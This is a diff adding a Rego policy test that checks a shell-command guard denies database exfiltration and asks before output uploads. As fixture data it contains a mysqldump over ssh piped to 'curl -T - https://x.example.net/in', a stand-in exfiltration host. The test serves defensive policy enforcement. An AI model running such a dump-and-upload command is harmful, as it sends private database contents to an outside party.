@@ -2140,3 +2140,13 @@ test_remote_relative_path_below_a_temporary_project_still_asks if {
 	got := {x.id | some x in rules.decision} with input as object.union(inp, {"facts": {"shell": {"remote_paths": [q]}}})
 	not "shell/remote-delete" in got
 }
+
+test_remote_output_sent_on if {
+	up := {"program": "curl", "target": "https://x.example.net/in", "source": "<fetched ssh://db1>", "evidence": "curl -T - https://x.example.net/in"}
+	got := shell_ids({"commands": [object.union(dump_cmd("mysqldump"), {"wrappers": ["ssh db1"]})], "uploads": [up]})
+	got["shell/database-exfiltration"] == "deny"
+	got["shell/output-upload"] == "ask"
+	# to one's own host by ssh, nothing
+	own := {"program": "ssh", "target": "backup", "source": "<fetched ssh://db1>", "evidence": "ssh backup 'cat > x'"}
+	not shell_ids({"uploads": [own]})["shell/output-upload"]
+}
